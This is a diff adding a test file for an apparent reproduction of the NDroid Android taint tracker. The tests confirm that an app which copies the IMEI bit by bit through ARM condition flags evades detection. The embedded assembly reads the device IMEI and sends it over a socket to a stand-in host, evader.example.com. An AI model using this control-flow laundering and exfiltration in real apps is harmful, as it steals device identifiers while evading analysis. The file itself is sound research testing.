@@ -1,0 +1,131 @@
+"""Section VII — the limitations NDroid shares with TaintDroid/DroidScope.
+
+"Similar to TaintDroid and DroidScope, NDroid does not track control
+flows.  Therefore, it could be evaded by apps that use the same control
+flow based techniques for circumventing those systems."
+
+The evasion app below copies a tainted buffer *bit by bit through the
+condition flags*: it tests each source bit (``tst``) and conditionally
+ORs a constant into the destination (``orrne``).  No data-flow edge
+connects source to destination, so the taint is — correctly, per the
+paper's stated policy — lost, and the leak goes undetected even though
+the exfiltrated bytes are identical.  This is a *faithfulness* test: if
+it starts failing, the reproduction has drifted from the published
+system's semantics.
+"""
+
+import pytest
+
+from repro.common.taint import TAINT_IMEI
+from repro.core import NDroid
+from repro.dalvik import ClassDef, MethodBuilder
+from repro.framework import AndroidPlatform, Apk
+from repro.jni.slots import jni_offset
+
+
+def build_control_flow_evader() -> Apk:
+    cls = ClassDef("Lcom/evader/App;")
+    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
+                                 native=True).build())
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
+    main.const_string(0, "libevade.so")
+    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->beam", 1)
+    main.ret_void()
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_evader_App_beam:         ; (env, jclass, jstring imei)
+        push {{r4, r5, r6, r7, lr}}
+        mov r4, r0
+        ; chars = GetStringUTFChars(env, imei, NULL)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0                    ; tainted source buffer
+        ldr r6, =clean_buffer         ; untainted destination
+        mov r7, #0                    ; byte index
+    byte_loop:
+        cmp r7, #15                   ; IMEI is 15 digits
+        bge done
+        ldrb r2, [r5, r7]             ; tainted byte (data flow stops here)
+        mov r3, #0                    ; rebuilt byte
+        ; copy each bit through the flags: tst + conditional orr
+        tst r2, #0x01
+        orrne r3, r3, #0x01
+        tst r2, #0x02
+        orrne r3, r3, #0x02
+        tst r2, #0x04
+        orrne r3, r3, #0x04
+        tst r2, #0x08
+        orrne r3, r3, #0x08
+        tst r2, #0x10
+        orrne r3, r3, #0x10
+        tst r2, #0x20
+        orrne r3, r3, #0x20
+        tst r2, #0x40
+        orrne r3, r3, #0x40
+        tst r2, #0x80
+        orrne r3, r3, #0x80
+        strb r3, [r6, r7]
+        add r7, r7, #1
+        b byte_loop
+    done:
+        ; send(socket(2,1) connected to the sink, clean_buffer, 15, 0)
+        mov r0, #2
+        mov r1, #1
+        ldr ip, =socket
+        blx ip
+        mov r7, r0
+        ldr r1, =dest
+        ldr ip, =connect
+        blx ip
+        mov r0, r7
+        ldr r1, =clean_buffer
+        mov r2, #15
+        mov r3, #0
+        ldr ip, =send
+        blx ip
+        pop {{r4, r5, r6, r7, pc}}
+    dest:
+        .asciz "evader.example.com:80"
+    .align 2
+    clean_buffer:
+        .space 16
+    """
+    return Apk(package="com.evader.app", classes=[cls],
+               native_libraries={"libevade.so": native},
+               load_library_calls=["libevade.so"])
+
+
+def test_control_flow_evasion_defeats_ndroid():
+    platform = AndroidPlatform()
+    NDroid.attach(platform)
+    apk = build_control_flow_evader()
+    platform.install(apk)
+    platform.run_app(apk)
+
+    # The attack worked: the IMEI left the device byte-for-byte...
+    sent = platform.kernel.network.transmissions_to("evader.example.com")
+    assert sent
+    assert sent[0].payload == platform.device.imei.encode()
+    # ...but no taint reached the sink — control-flow propagation is out
+    # of scope, exactly as Section VII states.
+    assert not platform.leaks.detected_by("ndroid", TAINT_IMEI)
+    assert not platform.leaks.records
+
+
+def test_direct_copy_of_same_flow_is_detected():
+    """Sanity half: the identical flow WITHOUT the control-flow trick is
+    caught, so the miss above is due to the evasion, not a broken setup."""
+    from repro.apps import cases
+    from repro.apps.base import run_scenario
+    platform = AndroidPlatform()
+    NDroid.attach(platform)
+    scenario = cases.build_case2()
+    run_scenario(scenario, platform)
+    assert platform.leaks.detected_by("ndroid", TAINT_IMEI)
